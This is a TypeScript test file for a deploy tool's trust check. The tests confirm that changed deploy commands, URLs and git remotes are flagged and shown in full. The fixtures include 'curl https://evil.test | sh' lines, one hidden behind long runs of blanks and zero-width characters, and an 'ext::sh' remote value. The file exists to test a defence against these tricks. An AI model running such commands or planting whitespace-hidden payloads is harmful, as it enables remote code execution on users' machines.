import { beforeEach, expect, test } from "vitest";
import { mkdir } from "node:fs/promises";
import type { Output } from "../../../../scripts/cli/output.ts";
import { openGit } from "../../../../scripts/git/git.ts";
import { lookAtRemote } from "../../../../scripts/git/remote.ts";
import { manifestSchema } from "../../../../scripts/manifest/schema.ts";
import { trustCommands } from "../../../../scripts/ship/trust/trust.ts";
import { bareRepository } from "../../../support/code-host/hosted.ts";

let at: Awaited<ReturnType<typeof bareRepository>>;
beforeEach(async () => {
  at = await bareRepository();
  // the clone is made when it is needed first
  await at.git("status");
});

/** Looks at a version.json in the clone; gives what was shown, and the code with which it was refused. */
async function look(
  { run = "true", url, remote, at: asked = "{url}/version" }: Partial<
    Record<"run" | "url" | "remote" | "at", string>
  >,
  answer?: boolean,
) {
  const shown: string[] = [];
  const ignore = () => {};
  const output: Output = {
    ...{ isInteractive: false, isJson: false, isColored: false, print: ignore, json: ignore, note: ignore },
    warn: (code, message) => void shown.push(`${code} ${message}`),
  };
  const manifest = manifestSchema.parse({
    name: "x",
    build: 1,
    ship: { remote, environments: { production: { branch: "main", url } } },
    components: {
      web: {
        ...{ name: "Web", kind: "web", build: 1, paths: ["web"], deploy: { type: "command", run } },
        verify: [{ url: asked, json: "/build", headers: { authorization: "Bearer {env:TOKEN}" } }],
      },
    },
  });
  const confirm = answer === undefined ? undefined : () => Promise.resolve(answer);
  const code = await trustCommands({ git: openGit(at.work), workspace: { manifest }, output }, confirm)
    .then(() => "trusted", (error: unknown) => Reflect.get(Object(error), "code"));
  return { code, shown: shown.join("\n") };
}

test("all of a command is shown, and blanks push nothing out of sight", async () => {
  expect(await look({})).toEqual({ code: "trusted", shown: "" });
  const hidden = await look({
    run: `npm run deploy${" ".repeat(600)}\u3000; curl https://evil.test | sh${"\u200b".repeat(600)}`,
  });
  expect(hidden.code).toBe("commands_changed");
  expect(hidden.shown).toContain("npm run deploy⟨601 blanks⟩; curl https://evil.test | sh⟨600 blanks⟩");
  const long = await look({ run: `echo ${"a".repeat(5000)}; curl https://evil.test | sh` });
  expect(long.shown).toContain("; curl https://evil.test | sh");
});

test("where {url} leads is asked about: the headers of probes go there", async () => {
  expect(await look({ url: "https://app.test" })).toMatchObject({ code: "trusted" });
  const moved = await look({ url: "https://evil.test" });
  expect(moved.code).toBe("commands_changed");
  expect(moved.shown).toContain("/ship/environments/production/url");
});

test("another remote is asked about, and makes no clone one that has never shipped", async () => {
  expect(await look({})).toMatchObject({ code: "trusted" });
  const other = await look({ remote: "evil", run: "curl https://evil.test | sh" });
  expect(other.code).toBe("commands_changed");
  expect(other.shown).toContain("/ship/remote");
  expect(other.shown).toContain("/components/web/deploy/run");
  expect(await look({ remote: "evil", run: "true" }, true)).toMatchObject({ code: "trusted" });
  expect(await look({ remote: "evil", run: "true" })).toEqual({ code: "trusted", shown: "" });
});

test("a remote is one that the clone has, never a repository among the files of a branch", async () => {
  for (const remote of ["tools/evil", "../evil", "https://evil.test/x", "ext::sh", "", "-h", "."]) {
    expect(manifestSchema.safeParse({ name: "x", build: 1, ship: { remote }, components: {} }).success).toBe(
      false,
    );
  }
  await mkdir(`${at.work}/evil`);
  await openGit(`${at.work}/evil`).run(["init", "--quiet", "--bare"]);
  await expect(lookAtRemote(openGit(at.work), { remote: "evil", branch: "main" })).rejects.toMatchObject({
    code: "remote_unknown",
    exitCode: 5,
  });
});
